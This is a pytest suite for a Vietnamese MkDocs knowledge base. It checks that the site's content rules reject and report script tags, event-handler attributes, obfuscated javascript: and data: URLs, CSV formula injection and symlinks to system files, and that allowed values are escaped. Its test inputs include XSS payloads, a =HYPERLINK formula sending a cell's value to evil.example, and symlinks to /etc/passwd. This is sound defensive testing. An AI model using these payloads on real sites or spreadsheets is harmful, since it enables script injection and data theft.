"""Nothing an editor writes can run, break a page or be published wrong.

Each fault found by the fault-injection run has a case here: a small project or fragment on which
the rule must report it at its file and line, then the same faults injected into copies of the
repository (one ``make checks`` run for the source faults, one build for the faults only the
rendered HTML shows), and a build of values that are allowed but must be escaped wherever they
land (navigation, titles, meta tags, tables, search index, CSV).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from helpers import (
    LANGUAGE_HOMES,
    REPO,
    append_line,
    article,
    copy_project,
    edit,
    load,
    load_knowledge_base,
    run_mkdocs_build,
    write_project,
)
from test_injected_errors import run_checks

from thuynguyen_kb import content_policy, knowledge, loader, rules, site_config
from thuynguyen_kb.csv_files import csv_text, neutralised
from thuynguyen_kb.markdown_source import Source
from thuynguyen_kb.rendering import PageRenderer
from thuynguyen_kb.rules.blocks import check_blocks
from thuynguyen_kb.rules.content import check_page_html
from thuynguyen_kb.site_ids import check_duplicate_ids
from thuynguyen_kb.site_pages import Site

PAGE = "---\ntitle: Trang\ndescription: Thử.\n---\n\n# Trang\n\n"


@pytest.fixture(scope="module")
def renderer() -> PageRenderer:
    return PageRenderer(site_config.read(REPO / "mkdocs.yml"), REPO / "docs")


def policy_problems(renderer: PageRenderer, body: str) -> list[str]:
    """The content rules on a page of the real site's Markdown dialect, as ``line: CODE``."""
    lines = (PAGE + body).split("\n")
    source = Source("docs/x.md", "x.md", lines, body_start=4)
    html = renderer.render(source, None)
    return [f"{p.line}: {p.code}" for p in check_page_html("docs/x.md", lines, 4, html, {})]


@pytest.mark.parametrize(
    ("body", "code", "line"),
    [
        ("<script>alert(1)</script>", "HTML-ELEMENT", 8),
        ('<iframe src="https://example.org/"></iframe>', "HTML-ELEMENT", 8),
        ('<object data="x.swf"></object>', "HTML-ELEMENT", 8),
        ("<svg/onload=alert(1)>", "HTML-ELEMENT", 8),
        ('<img src="x.png" onerror="alert(1)">', "HTML-ATTRIBUTE", 8),
        ('<div markdown onmouseover="alert(1)">\n\nChữ\n\n</div>', "HTML-ATTRIBUTE", 8),
        ('[Bấm](../index.md){ onclick="alert(1)" }', "HTML-ATTRIBUTE", 8),
        ('<p style="color: red">Chữ</p>', "HTML-ATTRIBUTE", 8),
        ('<input type="text" value="x">', "HTML-ATTRIBUTE", 8),
        ("[Bấm](javascript:alert(1))", "HTML-URL", 8),
        ('<a href="JaVaScRiPt:alert(1)">Bấm</a>', "HTML-URL", 8),
        ('<a href=" jav&#x09;ascript:alert(1)">Bấm</a>', "HTML-URL", 8),
        ("[Bấm](&#106;avascript:alert(1))", "HTML-URL", 8),
        ('<a href="javascript&colon;alert(1)">Bấm</a>', "HTML-URL", 8),
        ('[Bấm](y){ href="javascript:alert(1)" }', "HTML-URL", 8),
        ("<javascript:alert(1)>", "HTML-ELEMENT", 8),
        ('<base href="https://example.org/">', "HTML-ELEMENT", 8),
        ("<details ontoggle=alert(1) open>Chữ</details>", "HTML-ATTRIBUTE", 8),
        ("![Ảnh](data:image/svg+xml;base64,PHN2Zz4=)", "HTML-URL", 8),
        ("[Bấm][x]\n\n[x]: vbscript:msgbox(1)", "HTML-URL", 10),
        ("Đoạn mới.\n{ #mục-mới }", "ANCHOR-FORMAT", 9),
        ("## Một { #Muc_Moi }", "ANCHOR-FORMAT", 8),
        ("Một.\n{ #trung }\n\nHai.\n{ #trung }", "ANCHOR-DUPLICATE", 9),
        ("## Một { #trung }\n\nHai.\n{ #trung }", "ANCHOR-DUPLICATE", 8),
    ],
)
def test_content_outside_the_policy_is_reported_at_its_line(
    renderer: PageRenderer, body: str, code: str, line: int
) -> None:
    found = policy_problems(renderer, body)
    assert f"{line}: {code}" in found, found


def test_what_the_site_writes_passes_the_policy(renderer: PageRenderer) -> None:
    body = (
        "[Trang](../index.md), [LHQ](https://www.ohchr.org/), [thư](mailto:a@example.org),"
        " [gọi 111](tel:111), [mục](#muc)\n\n"
        '<div class="grid cards" markdown>\n\n- **Thẻ**<br>chữ\n\n</div>\n\n'
        "- [x] Đã làm\n- [ ] Chưa làm\n\n"
        '??? note "Đáp án"\n    Nội dung.\n\n'
        "| A | B |\n|:-:|--:|\n| 1 | 2 |\n\n"
        "## Mục { #muc }\n\n## Mục\n\nĐoạn.\n{ #doan-1 }\n\n"
        "```html\n<script>alert('trong mã')</script>\n```\n\n`<iframe>` là ví dụ.\n"
    )
    assert policy_problems(renderer, body) == []


def test_every_page_of_the_real_site_passes_the_policy() -> None:
    sources = loader.load(REPO / "docs", site_config.read(REPO / "mkdocs.yml"))
    kb = knowledge.assemble(sources)
    assert rules.check_rendered(sources, kb, []) == []


@pytest.mark.parametrize(
    "value",
    ["javascript:x", " JAVASCRIPT:x", "java\tscript:x", "\x01javascript:x", "data:text/html,x"],
)
def test_a_scheme_is_read_as_a_browser_reads_it(value: str) -> None:
    assert content_policy.url_scheme(value) in {"javascript", "data"}


@pytest.mark.parametrize("value", ["../index.md", "#muc", "?q=1", "./a:b", "java script:x"])
def test_relative_addresses_have_no_scheme(value: str) -> None:
    assert content_policy.url_scheme(value) is None


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (["# T", "", "```python", "code", ""], ["3: BLOCK-UNCLOSED"]),
        (["# T", "````", "```", "x"], ["2: BLOCK-UNCLOSED"]),
        (["# T", "", "<!-- kb:index", "type=task", "", "Chữ."], ["3: BLOCK-UNCLOSED"]),
        (["# T", "<div markdown>", "", "Chữ.", ""], ["2: BLOCK-UNCLOSED"]),
        (["# T", "<div>", "<details>", "</div>"], ["3: BLOCK-UNCLOSED"]),
        (["# T", "Chữ.", "</div>"], ["3: BLOCK-UNOPENED"]),
        (["# T", "`<div>` và `` <!-- `` là ví dụ.", "```", "<div>", "```"], []),
        (["# T", "<!-- a -->", "<div markdown>", "trẻ em < 16 tuổi", "</div>"], []),
    ],
)
def test_blocks_left_open_are_reported_where_they_open(
    lines: list[str], expected: list[str]
) -> None:
    assert [f"{p.line}: {p.code}" for p in check_blocks("f.md", lines)] == expected


def small_site(tmp_path: Path, files: dict[str, str], config: str = "") -> list[str]:
    root = write_project(tmp_path, files)
    if config:
        (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    _, problems = load_knowledge_base(root)
    return [str(problem).removeprefix(f"{root.as_posix()}/") for problem in problems]


def test_a_front_matter_key_given_twice_is_reported(tmp_path: Path) -> None:
    page = "---\ntitle: Một\ndescription: Thử.\ntitle: Hai\n---\n\n# Trang\n"
    found = small_site(tmp_path, {"index.md": page})
    assert any(p.startswith("docs/index.md:4: FRONT-MATTER-YAML the key 'title'") for p in found)


def test_a_data_key_given_twice_is_reported(tmp_path: Path) -> None:
    themes = "violence:\n  vi: Bạo lực\n  en: Violence\nviolence:\n  vi: Khác\n  en: Other\n"
    found = small_site(tmp_path, {"index.md": PAGE, "_data/themes.yml": themes})
    assert any(p.startswith("docs/_data/themes.yml:4: DATA-YAML the key 'violence'") for p in found)


def test_a_config_key_or_a_nav_page_given_twice_is_reported(tmp_path: Path) -> None:
    config = "site_name: A\nnav:\n  - index.md\n  - Phần:\n      - index.md\nsite_name: B\n"
    found = small_site(tmp_path, {"index.md": PAGE}, config)
    assert any(p.startswith("mkdocs.yml:5: NAV-DUPLICATE nav lists 'index.md'") for p in found)
    assert any(p.startswith("mkdocs.yml:6: CONFIG-YAML the key 'site_name'") for p in found)


def crowded_nav(first_level: int, in_section: int) -> tuple[str, dict[str, str]]:
    """A config whose first level lists ``first_level`` entries, the last a section of
    ``in_section`` pages that holds a nested section of 20, and the pages it names."""
    pages = [f"p{number}.md" for number in range(first_level - 1)]
    section = [f"s{number}.md" for number in range(in_section)]
    nested = [f"n{number}.md" for number in range(20)]
    lines = ["site_name: A", "nav:", *(f"  - {page}" for page in pages), "  - Phần:"]
    lines += [f"      - {page}" for page in section]
    lines += ["      - Lồng:", *(f"          - {page}" for page in nested)]
    files = {page: PAGE for page in [*pages, *section, *nested]}
    return "\n".join(lines) + "\n", files


def test_a_nav_list_that_every_page_carries_is_kept_short(tmp_path: Path) -> None:
    # 15 entries on the first level and in the section (14 pages and the nested section), 20
    # in the nested section, which pages outside it do not carry: allowed.
    config, files = crowded_nav(15, 14)
    assert [p for p in small_site(tmp_path / "ok", files, config) if "NAV-CROWDED" in p] == []
    config, files = crowded_nav(16, 15)
    found = [p for p in small_site(tmp_path / "crowded", files, config) if "NAV-CROWDED" in p]
    assert found == [
        "mkdocs.yml:3: NAV-CROWDED the first level of nav lists 16 entries (at most 15): every"
        " page carries this list; group some entries in a nested section ('- Name:' with its"
        " pages under it), which pages outside it carry as one link",
        "mkdocs.yml:19: NAV-CROWDED the nav section 'Phần' lists 16 entries (at most 15): every"
        " page carries this list; group some entries in a nested section ('- Name:' with its"
        " pages under it), which pages outside it carry as one link",
    ]


def test_a_symlink_under_docs_or_overrides_is_reported_not_read(tmp_path: Path) -> None:
    root = write_project(tmp_path, {"index.md": PAGE})
    (root / "docs" / "passwd.md").symlink_to("/etc/passwd")
    (root / "docs" / "assets").symlink_to("/etc", target_is_directory=True)
    (root / "overrides").mkdir()
    (root / "overrides" / "main.html").symlink_to("/etc/hostname")
    config = "site_name: T\ntheme:\n  name: material\n  custom_dir: overrides\n"
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    sources = loader.load(root / "docs", site_config.read(root / "mkdocs.yml"))
    assert "docs/passwd.md" not in [s.rel for s in sources.pages.values()]
    assert not any("/etc/" in p.as_posix() for p in sources.files if p.is_relative_to(root))
    _, problems = load_knowledge_base(root)
    found = [str(problem).removeprefix(f"{root.as_posix()}/") for problem in problems]
    for name in ("docs/passwd.md", "docs/assets", "overrides/main.html"):
        assert any(p.startswith(f"{name}:0: FILE-SYMLINK") for p in found), (name, found)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", "Dịch vụ <svg onload=alert(1)></svg>"),
        ("description", '"><script>alert(1)</script>'),
        ("title", "Trẻ em <b>đặc biệt</b>"),
        ("subtitle", "<img src=x onerror=alert(1)>"),
    ],
)
def test_a_tag_in_a_plain_text_field_is_reported(tmp_path: Path, field: str, value: str) -> None:
    fields = {"title": "Trang", "description": "Thử.", field: value}
    lines = "".join(f"{name}: '{text}'\n" for name, text in fields.items())
    line = 2 + list(fields).index(field)
    found = small_site(tmp_path, {"index.md": f"---\n{lines}---\n\n# Trang\n"})
    assert any(
        p.startswith(f"docs/index.md:{line}: TEXT-MARKUP the field '{field}'") for p in found
    )


def test_a_tag_in_a_nav_name_or_a_label_is_reported(tmp_path: Path) -> None:
    config = (
        "site_name: T\nnav:\n  - index.md\n  - 'Phần <img src=x onerror=alert(1)>':\n"
        "      - index.md\n"
    )
    themes = "violence:\n  vi: Bạo lực <script>x</script>\n  en: Violence\n"
    found = small_site(tmp_path, {"index.md": PAGE, "_data/themes.yml": themes}, config)
    assert any(p.startswith("mkdocs.yml:4: TEXT-MARKUP a nav section name") for p in found), found
    assert any(p.startswith("docs/_data/themes.yml:2: TEXT-MARKUP") for p in found), found


def test_a_lone_less_than_sign_is_plain_text(tmp_path: Path) -> None:
    page = PAGE.replace("title: Trang", "title: 'Trẻ em < 16 tuổi & \"gia đình\"'")
    assert not any("TEXT-MARKUP" in p for p in small_site(tmp_path, {"index.md": page}))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_neutralised(cell: str) -> None:
    assert neutralised(cell) == "'" + cell
    [row] = csv.reader(io.StringIO(csv_text([[cell, "Phòng Y tế"]])))
    assert row == ["'" + cell, "Phòng Y tế"]


def test_ordinary_csv_cells_are_kept_and_quoted() -> None:
    text = csv_text([["Tòa án", 'Nói "không"', "II.1", "a,b"]])
    assert text == '"Tòa án","Nói ""không""","II.1","a,b"\r\n'


# --- The same faults in copies of the repository -------------------------------------------


def inject_rendered_faults(docs: Path) -> list[str]:
    """Faults that only the rendered HTML shows; return the problem starts expected."""
    expected = []
    for page, text, code in [
        ("gioi-thieu.md", "<script>alert(1)</script>", "HTML-ELEMENT"),
        ("gioi-thieu.en.md", "[Click](javascript:alert(1))", "HTML-URL"),
        ("boi-canh.md", '<a href="JaVaScRiPt:alert(1)">Bấm</a>', "HTML-URL"),
        # Explicit ids go into both languages' files: each file must have the other's ids.
        ("thuat-ngu.md", "Đoạn.\n{ #mục-mới }", "ANCHOR-FORMAT"),
        ("thuat-ngu.en.md", "Text.\n{ #mục-mới }", "ANCHOR-FORMAT"),
        ("bao-cao.md", "Một.\n{ #trung }\n\nHai.\n{ #trung }", "ANCHOR-DUPLICATE"),
        ("bao-cao.en.md", "One.\n{ #trung }\n\nTwo.\n{ #trung }", "ANCHOR-DUPLICATE"),
        ("ai-lam-gi.en.md", '[x](../index.md){ onclick="alert(1)" }', "HTML-ATTRIBUTE"),
    ]:
        line = append_line(docs / page, text)
        expected.append(f"docs/{page}:{line + (1 if code.startswith('ANCHOR') else 0)}: {code}")
    return expected


def test_faults_in_the_rendered_pages_stop_the_build_before_it_writes(tmp_path: Path) -> None:
    root = copy_project(tmp_path / "copy")
    expected = inject_rendered_faults(root / "docs")
    site = tmp_path / "site"
    build = run_mkdocs_build(root, site)
    assert build.returncode != 0
    # The Vietnamese build stops, before it writes a file, with every Vietnamese page's problem
    # (the English pages are built after it, so their problems come once these are fixed).
    vietnamese = [start for start in expected if ".en.md:" not in start]
    for start in vietnamese:
        assert start in build.stderr, (start, build.stderr[-3000:])
    assert not (site / "index.html").exists()
    # The check script finds all of them, the same way, without building.
    sources = loader.load(root / "docs", site_config.read(root / "mkdocs.yml"))
    kb = knowledge.assemble(sources)
    prefix = f"{root.as_posix()}/"
    checked = [str(p).removeprefix(prefix) for p in rules.check_rendered(sources, kb, [])]
    for start in expected:
        assert any(line.startswith(start) for line in checked), (start, checked)
    built = [line for line in build.stderr.splitlines() if line.startswith("docs/")]
    assert sorted(built) == sorted(line for line in checked if ".en.md:" not in line)


def inject_source_faults(root: Path) -> list[str]:
    """Faults the check script finds; return the ``path:line: CODE`` starts expected."""
    docs = root / "docs"
    expected = []
    edit(
        docs / "nhiem-vu" / "dich-vu-tre-em.md",
        "title: ",
        "title: Dịch vụ <svg onload=alert(1)></svg> ",
    )
    expected.append("docs/nhiem-vu/dich-vu-tre-em.md:")
    expected.append("TEXT-MARKUP the field 'title'")
    edit(docs / "co-quan" / "mttq.md", "---\n", "---\ntitle: Mặt trận\n")
    expected.append("docs/co-quan/mttq.md:")
    expected.append("FRONT-MATTER-YAML the key 'title' is given twice")
    line = append_line(docs / "gioi-thieu.md", "```python\nprint('chưa đóng')")
    expected.append(f"docs/gioi-thieu.md:{line}: BLOCK-UNCLOSED")
    line = append_line(docs / "thuat-ngu.en.md", "<script>alert(1)</script>")
    expected.append(f"docs/thuat-ngu.en.md:{line}: HTML-ELEMENT")
    line = append_line(docs / "boi-canh.en.md", "[x](javascript:alert(1))")
    expected.append(f"docs/boi-canh.en.md:{line}: HTML-URL")
    edit(root / "mkdocs.yml", "      - boi-canh.md\n", "      - boi-canh.md\n      - ke-hoach.md\n")
    expected.append("mkdocs.yml:")
    expected.append("NAV-DUPLICATE nav lists 'ke-hoach.md' again")
    (docs / "assets" / "passwd.txt").symlink_to("/etc/passwd")
    expected.append("docs/assets/passwd.txt:0: FILE-SYMLINK")
    (root / "overrides" / "partials" / "extra.html").symlink_to("/etc/hostname")
    expected.append("overrides/partials/extra.html:0: FILE-SYMLINK")
    edit(docs / "_data" / "themes.yml", "violence:\n", "violence:\n  vi: Lặp\n")
    expected.append("docs/_data/themes.yml:")
    expected.append("DATA-YAML the key 'vi' is given twice")
    return expected


def test_source_faults_make_the_checks_fail_naming_each_file(tmp_path: Path) -> None:
    root = copy_project(tmp_path / "copy")
    expected = inject_source_faults(root)
    result = run_checks(root)
    assert result.returncode != 0
    for part in expected:
        assert part in result.stdout, (part, result.stdout[-4000:])
    assert not (root / "site" / "index.html").exists()


# --- Allowed values, escaped where they land --------------------------------------------------

# Allowed (no tag), and each would be shown wrong if printed unescaped: "&lt;b&gt;" as "<b>".
TITLE = "Nhiệm vụ \"A\" & 'B' < C > D &lt;b&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
DESCRIPTION = 'Nói "không" với bạo lực & an toàn <16 tuổi'
SECTION = 'Tasks & "duties" > 3 < 4 &lt;i&gt;'


def set_field(page: Path, name: str, value: str) -> None:
    """Replace the front matter line ``name: …`` of ``page`` (a JSON string is valid YAML)."""
    lines = page.read_text(encoding="utf-8").split("\n")
    index = next(i for i, line in enumerate(lines) if line.startswith(f"{name}:"))
    lines[index] = f"{name}: {json.dumps(value, ensure_ascii=False)}"
    page.write_text("\n".join(lines), encoding="utf-8")


@pytest.fixture(scope="module")
def escaped_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("escape"))
    docs = root / "docs"
    set_field(docs / "nhiem-vu" / "kiem-tra-du-lieu.md", "title", TITLE)
    set_field(docs / "nhiem-vu" / "hoan-thien-chinh-sach.md", "title", FORMULA)
    set_field(docs / "gioi-thieu.md", "description", DESCRIPTION)
    section = json.dumps(SECTION, ensure_ascii=False)
    edit(root / "mkdocs.yml", "            Nhiệm vụ: Tasks\n", f"            Nhiệm vụ: {section}\n")
    site = root / "site"
    result = run_mkdocs_build(root, site)
    assert result.returncode == 0, result.stderr[-3000:]
    return site


def title_of(site: Path, lang: str, page: str) -> str:
    return load(site / LANGUAGE_HOMES[lang] / page / "index.html").findtext(".//title")


def test_a_title_with_quotes_and_signs_shows_as_written_everywhere(escaped_site: Path) -> None:
    assert title_of(escaped_site, "vi", "nhiem-vu/kiem-tra-du-lieu").startswith(TITLE + " - ")
    home = load(escaped_site / "index.html")
    nav = [" ".join(a.text_content().split()) for a in home.xpath("//nav//a")]
    assert TITLE in nav
    tasks = article(load(escaped_site / "nhiem-vu" / "index.html"))
    assert TITLE in [a.text_content() for a in tasks.xpath(".//a")]
    assert not home.xpath("//nav//b | //nav//svg[@onload] | //nav//c")


def test_a_description_with_quotes_stays_whole_in_its_meta_tag(escaped_site: Path) -> None:
    page = load(escaped_site / "gioi-thieu" / "index.html")
    [meta] = page.xpath("//meta[@name='description']")
    assert meta.get("content") == DESCRIPTION
    assert set(meta.attrib) == {"name", "content"}


def test_a_nav_section_name_is_escaped(escaped_site: Path) -> None:
    page = load(escaped_site / "en" / "index.html")
    labels = [" ".join(node.text_content().split()) for node in page.xpath("//nav//label")]
    assert SECTION in labels


def test_titles_reach_the_search_index_as_plain_text(escaped_site: Path) -> None:
    texts = [p.read_text(encoding="utf-8") for p in (escaped_site / "search-kb").glob("*.js")]
    assert any(json.dumps(TITLE, ensure_ascii=False)[1:-1] in text for text in texts)
    assert not any("&amp;" in text or "&#34;" in text for text in texts)


def test_a_formula_title_is_neutralised_in_the_csv_download(escaped_site: Path) -> None:
    text = (escaped_site / "ai-lam-gi" / "phan-cong.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_an_id_given_twice_in_a_built_page_is_reported(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text(
        '<html lang="vi"><body><input id="__drawer"><div id="top">Đầu</div>\n'
        '<article class="md-content__inner"><p id="top">Lặp</p><p id="rieng">Một</p>'
        "</article></body></html>",
        encoding="utf-8",
    )
    found = check_duplicate_ids(Site.load(site, tmp_path / "docs"))
    assert [(p.code, "'top'" in p.message) for p in found] == [("ANCHOR-DUPLICATE", True)]
